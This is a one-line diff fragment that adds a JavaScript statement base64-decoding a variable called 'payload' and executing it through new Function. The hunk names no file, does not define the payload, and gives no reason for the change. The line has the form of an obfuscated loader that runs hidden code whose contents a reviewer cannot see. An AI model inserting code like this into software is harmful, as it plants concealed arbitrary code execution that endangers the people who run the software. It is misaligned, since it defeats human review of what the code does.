@@ -1,0 +1,1 @@
+new Function(atob(payload))()
